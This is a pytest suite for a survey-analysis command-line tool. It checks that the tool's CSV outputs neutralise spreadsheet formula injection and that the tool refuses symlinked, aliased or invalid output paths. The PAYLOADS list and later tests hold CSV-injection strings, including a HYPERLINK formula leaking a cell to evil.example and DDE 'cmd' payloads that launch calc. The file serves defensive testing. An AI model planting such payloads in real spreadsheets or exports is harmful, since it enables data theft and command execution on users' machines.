"""The command line against hostile and broken files: formula injection in every CSV it writes, outputs
that are inputs or links, bad output places, interrupts and full disks.

Each test builds the attack in a temporary folder, runs the command, and asserts on the exit code, on
the bytes written, on the absence of a traceback, and on the input files (byte-identical).
"""

from __future__ import annotations

import csv
import errno
import hashlib
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import time

import pandas as pd
import pytest

import servqual as sq
import servqual._safeio as safeio
from servqual.cli import EXIT_INTERRUPTED, main

#: Cells that a spreadsheet would run (OWASP CSV injection), and a CR that would split a record.
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "=cmd|' /C calc'!A0", "+1+1", "-2+3", "\tTAB=1", "\r=CR", "a\rb"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
MATRIX = ",price,quality,service\nprice,1,2,6\nquality,1/2,1,3\nservice,1/6,1/3,1\n"


def sha(path) -> str:
    return hashlib.sha256(open(path, "rb").read()).hexdigest()


def run(args, capsys):
    """``main(args)`` -> (exit code, stdout, stderr); never a traceback."""
    code = main([str(a) for a in args])
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err
    return code, out, err


def csv_records(path) -> list:
    """The records of a CSV file as servqual wrote it (UTF-8 with BOM), parsed by the csv module."""
    data = open(path, "rb").read()
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


def is_number(field: str) -> bool:
    try:
        float(field)
    except ValueError:
        return False
    return True


def live_fields(records) -> list:
    """Fields a spreadsheet would read as a formula: a trigger first (also after blanks), not a number."""
    return [f for row in records for f in row
            if (f[:1] in TRIGGERS or f.lstrip()[:1] in TRIGGERS) and not is_number(f)]


@pytest.fixture
def kiosk(tmp_path):
    """Copies of the bundled kiosk questionnaire and data, with their sha256."""
    from servqual._resources import resolve_survey

    s, d = tmp_path / "kiosk.yaml", tmp_path / "kiosk.csv"
    shutil.copy(resolve_survey("kiosk"), s)
    shutil.copy(sq.dataset_path("kiosk"), d)
    return s, d, {s: sha(s), d: sha(d)}


def unchanged(hashes: dict) -> bool:
    return all(sha(p) == h for p, h in hashes.items())


# --------------------------------------------------------------------------------------------------
# 1. formula injection in every CSV the command line writes
# --------------------------------------------------------------------------------------------------
def test_validate_problem_table_neutralises_planted_cells(kiosk, tmp_path, capsys):
    s, d, _ = kiosk
    df = pd.read_csv(d)
    df["sq01_per"] = df["sq01_per"].astype(object)
    for i, p in enumerate(PAYLOADS):
        df.loc[i, "sq01_per"] = p
    df.loc[20, "sq02_per"] = -2  # a negative number outside the scale stays a number
    bad = tmp_path / "hostile.csv"
    df.to_csv(bad, index=False, lineterminator="\r\n")  # CRLF: the fields holding a CR are quoted
    before = sha(bad)
    out = tmp_path / "problems.csv"
    code, text, _ = run(["validate", "--survey", s, "--data", bad, "-o", out], capsys)
    assert code == 2 and f"the full problem table: {out}" in text
    records = csv_records(out)
    assert live_fields(records) == []
    assert len(records) == 1 + len(PAYLOADS) + 1  # the CRs split no record
    cells = [f for row in records for f in row]
    for p in PAYLOADS:
        assert p in cells or "'" + p in cells
    assert "-2" in cells or "-2.0" in cells
    assert sha(bad) == before


def test_screen_flags_neutralise_respondent_ids(kiosk, tmp_path, capsys):
    s, d, _ = kiosk
    df = pd.read_csv(d, dtype={"respondent_id": str})
    for i, p in enumerate(PAYLOADS):
        df.loc[i, "respondent_id"] = p
    data = tmp_path / "ids.csv"
    df.to_csv(data, index=False, lineterminator="\r\n")
    before = sha(data)
    out = tmp_path / "flags.csv"
    code, text, _ = run(["screen", "--survey", s, "--data", data, "-o", out], capsys)
    assert code == 0 and "(211 respondents)" in text
    records = csv_records(out)
    assert len(records) == 212 and live_fields(records) == []
    ids = [r[records[0].index("respondent_id")] for r in records[1:]] if "respondent_id" in records[0] else \
        [r[0] for r in records[1:]]
    for p in PAYLOADS:
        assert p in ids or "'" + p in ids
    assert sha(data) == before


def test_ahp_csv_neutralises_criterion_names(tmp_path, capsys):
    names = ['=HYPERLINK("http://x")', "@SUM(A1)", "=cmd|' /C calc'!A0"]
    m = tmp_path / "matrix.csv"
    q = ['"' + n.replace('"', '""') + '"' for n in names]
    m.write_text(f",{','.join(q)}\n{q[0]},1,2,6\n{q[1]},1/2,1,3\n{q[2]},1/6,1/3,1\n", encoding="utf-8")
    before = sha(m)
    out = tmp_path / "ahp.csv"
    code, _, _ = run(["ahp", m, "-o", out], capsys)
    assert code == 0
    records = csv_records(out)
    assert live_fields(records) == []
    assert [r[0] for r in records[1:]] == ["'" + n for n in names]
    assert [float(r[1]) for r in records[1:]] == pytest.approx([0.6, 0.3, 0.1])
    assert sha(m) == before


def test_weights_csv_neutralises_indicator_names(tmp_path, capsys):
    d = tmp_path / "centres.csv"
    pd.DataFrame({"centre": ["=1+1", "@A1", "+2", "-3"], "=cost()": [20, 30, 12, 45],
                  "+rate": [0.92, 0.85, 0.95, 0.80], "-score": [-88, -90, -93, -79],
                  "a\rb": [3, 1, 4, 1]}).to_csv(d, index=False, lineterminator="\r\n")
    before = sha(d)
    out = tmp_path / "w.csv"
    code, _, _ = run(["weights", "--data", d, "--index", "centre", "--cost", "=cost()", "-o", out], capsys)
    assert code == 0
    records = csv_records(out)
    assert live_fields(records) == []
    cells = [f for row in records for f in row]
    for name in ("=cost()", "+rate", "-score"):
        assert "'" + name in cells
    assert len(records) == 5 and "a\rb" in cells  # the CR is quoted and splits no record
    assert sha(d) == before


def test_analyze_tables_hold_no_live_cell(kiosk, tmp_path, capsys):
    s, d, hashes = kiosk
    out = tmp_path / "out"
    code, _, _ = run(["analyze", "--survey", s, "--data", d, "--out", out], capsys)
    assert code == 0
    tables = sorted(out.glob("*.csv"))
    assert len(tables) >= 10
    for t in tables:
        assert live_fields(csv_records(t)) == [], t.name
    # numbers stay numbers: a negative loading or correlation is written as the number it is
    assert any(is_number(f) and f.startswith("-") for t in tables for row in csv_records(t) for f in row)
    assert unchanged(hashes)


# --------------------------------------------------------------------------------------------------
# 3. never through a link, never onto an input of the run
# --------------------------------------------------------------------------------------------------
def test_analyze_refuses_results_json_linked_to_the_questionnaire(kiosk, tmp_path, capsys, monkeypatch):
    s, d, hashes = kiosk
    out = tmp_path / "out"
    out.mkdir()
    (out / "results.json").symlink_to(s)
    import servqual.psychometrics.measurement as measurement

    monkeypatch.setattr(measurement, "measurement_report", lambda *a, **k: pytest.fail("computed before the check"))
    code, _, err = run(["analyze", "--survey", s, "--data", d, "--out", out], capsys)
    assert code == 2
    assert str(out / "results.json") in err and str(s) in err and len(err.strip().splitlines()) == 1
    assert unchanged(hashes) and (out / "results.json").is_symlink()
    assert sorted(p.name for p in out.iterdir()) == ["results.json"]


def test_analyze_refuses_a_table_linked_to_an_input_and_writes_nothing(kiosk, tmp_path, capsys):
    s, d, hashes = kiosk
    out = tmp_path / "out"
    out.mkdir()
    (out / "reliability.csv").symlink_to(d)
    code, _, err = run(["analyze", "--survey", s, "--data", d, "--out", out], capsys)
    assert code == 2 and "reliability.csv" in err and str(d) in err
    assert unchanged(hashes)
    assert sorted(p.name for p in out.iterdir()) == ["reliability.csv"]  # not even results.json


def test_report_refuses_data_named_like_the_report_in_the_out_folder(kiosk, tmp_path, capsys, monkeypatch):
    s, d, _ = kiosk
    out = tmp_path / "out"
    out.mkdir()
    data = out / "report.xlsx"
    pd.read_csv(d).to_excel(data, index=False)
    before = sha(data)
    import servqual.reporting.study as study

    monkeypatch.setattr(study, "run_study", lambda *a, **k: pytest.fail("computed before the check"))
    code, _, err = run(["report", "--survey", s, "--data", data, "--out", out, "--format", "xlsx"], capsys)
    assert code == 2 and err.count(str(data)) == 2
    assert sha(data) == before


def test_report_refuses_results_json_linked_to_the_questionnaire(kiosk, tmp_path, capsys, monkeypatch):
    s, d, hashes = kiosk
    out = tmp_path / "out"
    out.mkdir()
    (out / "results.json").symlink_to(s)
    import servqual.reporting.study as study

    monkeypatch.setattr(study, "run_study", lambda *a, **k: pytest.fail("computed before the check"))
    code, _, err = run(["report", "--survey", s, "--data", d, "--out", out], capsys)
    assert code == 2 and str(s) in err
    assert unchanged(hashes)


@pytest.mark.parametrize("how", ["same", "other_spelling", "hard_link", "symlink"])
def test_validate_output_onto_the_data_is_refused(kiosk, tmp_path, capsys, how):
    s, d, hashes = kiosk
    target = {"same": lambda: d, "other_spelling": lambda: tmp_path / "sub" / ".." / d.name}.get(how)
    if target is not None:
        target = target()
    else:
        target = tmp_path / "alias.csv"
        (os.link if how == "hard_link" else os.symlink)(d, target)
    code, _, err = run(["validate", "--survey", s, "--data", d, "-o", target], capsys)
    assert code == 2 and str(d) in err and "Traceback" not in err
    assert unchanged(hashes)


def test_every_writing_command_protects_its_inputs(kiosk, tmp_path, capsys):
    s, d, hashes = kiosk
    m = tmp_path / "matrix.csv"
    m.write_text(MATRIX, encoding="utf-8")
    hashes[m] = sha(m)
    cases = [
        ["screen", "--survey", s, "--data", d, "-o", s],
        ["ahp", m, "-o", m],
        ["weights", "--survey", s, "--data", d, "-o", d.with_suffix(".csv")],
        ["survey", "codebook", s, "-o", s],
        ["survey", "template", s, "-o", s],
        ["survey", "render", s, "-o", s],
        ["survey", "xlsform", s, "-o", s],
    ]
    for args in cases:
        code, _, err = run(args, capsys)
        assert code == 2 and "input file" in err, args
    assert unchanged(hashes)


def test_dangling_link_is_not_followed(kiosk, tmp_path, capsys):
    s, d, hashes = kiosk
    link = tmp_path / "flags.csv"
    target = tmp_path / "elsewhere.csv"
    link.symlink_to(target)
    code, _, err = run(["screen", "--survey", s, "--data", d, "-o", link], capsys)
    assert code == 2 and "symbolic link" in err
    assert not target.exists() and link.is_symlink()
    assert unchanged(hashes)


# --------------------------------------------------------------------------------------------------
# 10. bad output places: exit 2 before any computation
# --------------------------------------------------------------------------------------------------
@pytest.fixture
def no_computation(monkeypatch):
    """Fail the test when the data are read: every refusal below must come first."""
    import servqual.survey.io as sio

    for name in ("read_responses", "check_responses", "read_table"):
        monkeypatch.setattr(sio, name, lambda *a, **k: pytest.fail("the data were read before the check"))
    import servqual.decision.weights as weights
    import servqual.reporting.study as study

    monkeypatch.setattr(weights, "read_pairwise_matrix", lambda *a, **k: pytest.fail("read before the check"))
    monkeypatch.setattr(study, "run_study", lambda *a, **k: pytest.fail("computed before the check"))


def test_bad_output_places_exit_2_before_computation(kiosk, tmp_path, capsys, no_computation):
    s, d, hashes = kiosk
    existing = tmp_path / "existing.txt"
    existing.write_text("keep me", encoding="utf-8")
    folder = tmp_path / "folder"
    folder.mkdir()
    m = tmp_path / "matrix.csv"
    m.write_text(MATRIX, encoding="utf-8")
    data = ["--survey", s, "--data", d]
    cases = [
        (["analyze", *data, "--out", existing], "is an existing file"),
        (["report", *data, "--out", existing], "is an existing file"),
        (["analyze", *data, "--out", ""], "is empty"),
        (["report", *data, "--out", ""], "is empty"),
        (["validate", *data, "-o", folder], "is a folder"),
        (["screen", *data, "-o", folder], "is a folder"),
        (["ahp", m, "-o", folder], "is a folder"),
        (["weights", *data, "-o", folder], "is a folder"),
        (["survey", "codebook", s, "-o", folder], "is a folder"),
        (["validate", *data, "-o", tmp_path / "missing" / "p.csv"], "does not exist"),
        (["screen", *data, "-o", tmp_path / "missing" / "f.csv"], "does not exist"),
        (["ahp", m, "-o", tmp_path / "missing" / "a.json"], "does not exist"),
        (["weights", *data, "-o", tmp_path / "missing" / "w.csv"], "does not exist"),
        (["survey", "template", s, "-o", tmp_path / "missing" / "t.xlsx"], "does not exist"),
        (["analyze", *data, "--out", existing / "sub"], "is not a folder"),
        (["ahp", m, "-o", tmp_path / "a.txt"], "write .json or .csv"),
        (["validate", *data, "-o", ""], "is empty"),
    ]
    if os.path.exists("/dev/full"):
        cases += [(["screen", *data, "-o", "/dev/full"], "not a regular file"),
                  (["ahp", m, "-o", "/dev/full"], "not a regular file")]
    for args, needle in cases:
        t0 = time.perf_counter()
        code, _, err = run(args, capsys)
        assert code == 2, args
        assert needle in err and len(err.strip().splitlines()) == 1, (args, err)
        assert time.perf_counter() - t0 < 5
    assert existing.read_text(encoding="utf-8") == "keep me" and list(folder.iterdir()) == []
    assert not (tmp_path / "missing").exists()
    assert unchanged(hashes)


def test_unknown_report_format_is_refused_before_computation(capsys, tmp_path, no_computation):
    code, _, err = run(["report", "--dataset", "kiosk", "--out", tmp_path / "r", "--format", "pdf"], capsys)
    assert code == 2 and "Unknown report format" in err
    assert not (tmp_path / "r").exists()


# --------------------------------------------------------------------------------------------------
# 6. atomic writes, Ctrl-C, full disk
# --------------------------------------------------------------------------------------------------
def test_ctrl_c_during_computation_writes_nothing(kiosk, tmp_path, capsys, monkeypatch):
    s, d, hashes = kiosk
    import servqual.psychometrics.measurement as measurement

    def interrupted(*a, **k):
        raise KeyboardInterrupt

    monkeypatch.setattr(measurement, "measurement_report", interrupted)
    out = tmp_path / "out"
    code, _, err = run(["analyze", "--survey", s, "--data", d, "--out", out], capsys)
    assert code == EXIT_INTERRUPTED == 130
    assert err == "servqual analyze: interrupted; nothing written\n"
    assert not out.exists() or list(out.iterdir()) == []
    assert unchanged(hashes)


def test_ctrl_c_while_writing_names_what_was_written(kiosk, tmp_path, capsys, monkeypatch):
    s, d, hashes = kiosk
    real = safeio.write_csv
    calls = []

    def write_then_interrupt(df, path, **kw):
        calls.append(path)
        if len(calls) == 2:
            raise KeyboardInterrupt
        return real(df, path, **kw)

    monkeypatch.setattr(safeio, "write_csv", write_then_interrupt)
    out = tmp_path / "out"
    code, _, err = run(["analyze", "--survey", s, "--data", d, "--out", out], capsys)
    assert code == 130
    assert err == f"servqual analyze: interrupted; written: {out / 'results.json'}, {calls[0]}\n"
    assert sorted(p.name for p in out.iterdir()) == sorted(["results.json", calls[0].name])  # no temporary file
    json.loads((out / "results.json").read_text(encoding="utf-8"))
    assert unchanged(hashes)


@pytest.mark.parametrize("failure", [KeyboardInterrupt, OSError(errno.ENOSPC, "No space left on device")])
def test_interrupt_or_full_disk_keeps_the_previous_file(kiosk, tmp_path, capsys, monkeypatch, failure):
    s, d, hashes = kiosk
    out = tmp_path / "flags.csv"
    out.write_text("previous flags\n", encoding="utf-8")

    def fail(fd):
        raise failure

    monkeypatch.setattr(safeio.os, "fsync", fail)
    code, _, err = run(["screen", "--survey", s, "--data", d, "-o", out], capsys)
    if failure is KeyboardInterrupt:
        assert code == 130 and err == "servqual screen: interrupted; nothing written\n"
    else:
        assert code == 2 and "No space left on device" in err and len(err.strip().splitlines()) == 1
    assert out.read_text(encoding="utf-8") == "previous flags\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["flags.csv", "kiosk.csv", "kiosk.yaml"])
    assert unchanged(hashes)


@pytest.mark.skipif(sys.platform == "win32", reason="SIGINT to a child process")
def test_sigint_to_the_command_prints_one_line_and_exits_130(kiosk, tmp_path):
    """A real Ctrl-C (SIGINT) to a running ``servqual analyze``: one line, exit 130, nothing written."""
    s, d, hashes = kiosk
    out = tmp_path / "out"
    script = (
        "import sys, time\n"
        "import servqual.psychometrics.measurement as m\n"
        "def slow(*a, **k):\n"
        "    print('computing', flush=True)\n"
        "    time.sleep(60)\n"
        "m.measurement_report = slow\n"
        "from servqual.cli import main\n"
        f"sys.exit(main(['analyze', '--survey', {str(s)!r}, '--data', {str(d)!r}, '--out', {str(out)!r}]))\n"
    )
    proc = subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert proc.stdout.readline().strip() == "computing"
        proc.send_signal(signal.SIGINT)
        _, err = proc.communicate(timeout=30)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 130
    assert err == "servqual analyze: interrupted; nothing written\n"
    assert not out.exists() or list(out.iterdir()) == []
    assert unchanged(hashes)


def test_outputs_replace_previous_files_atomically(kiosk, tmp_path, capsys):
    """A second run replaces the files of the first (renamed onto them), leaving no temporary file."""
    s, d, _ = kiosk
    out = tmp_path / "out"
    m = tmp_path / "m.csv"
    m.write_text(MATRIX, encoding="utf-8")
    for _ in range(2):
        assert run(["ahp", m, "-o", out.with_suffix(".json")], capsys)[0] == 0
        assert run(["ahp", m, "-o", out.with_suffix(".csv")], capsys)[0] == 0
    assert sorted(p.name for p in tmp_path.iterdir()) == ["kiosk.csv", "kiosk.yaml", "m.csv", "out.csv", "out.json"]
    assert json.loads(out.with_suffix(".json").read_text(encoding="utf-8"))["weights"]["price"] == pytest.approx(0.6)


def test_ctrl_c_in_report_names_the_files_written(kiosk, tmp_path, capsys, monkeypatch):
    """``report`` writes through the command's plan: an interrupt before ``results.json`` names the report."""
    s, d, hashes = kiosk

    def interrupted(self, path, text, encoding="utf-8"):
        raise KeyboardInterrupt

    monkeypatch.setattr(safeio.OutputPlan, "write_text", interrupted)
    out = tmp_path / "out"
    code, _, err = run(["report", "--survey", s, "--data", d, "--out", out, "--format", "xlsx", "--lang", "en"], capsys)
    assert code == 130
    assert err == f"servqual report: interrupted; written: {out / 'report.xlsx'}\n"
    assert sorted(p.name for p in out.iterdir()) == ["report.xlsx"]
    assert unchanged(hashes)


def test_inputs_inside_the_out_folder_are_read_and_kept(kiosk, tmp_path, capsys):
    """Data and questionnaire may live in the output folder: only writing onto them is refused."""
    s, d, _ = kiosk
    out = tmp_path / "study"
    out.mkdir()
    s2, d2 = out / s.name, out / d.name
    shutil.copy(s, s2)
    shutil.copy(d, d2)
    hashes = {s2: sha(s2), d2: sha(d2)}
    code, _, _ = run(["report", "--survey", s2, "--data", d2, "--out", out, "--format", "xlsx", "--lang", "en"], capsys)
    assert code == 0
    code, _, _ = run(["analyze", "--survey", s2, "--data", d2, "--out", out], capsys)
    assert code == 0
    names = {p.name for p in out.iterdir()}
    assert {"report.xlsx", "results.json", "reliability.csv", s.name, d.name} <= names
    assert not any(n.startswith(".") for n in names)  # no temporary file left
    assert unchanged(hashes)
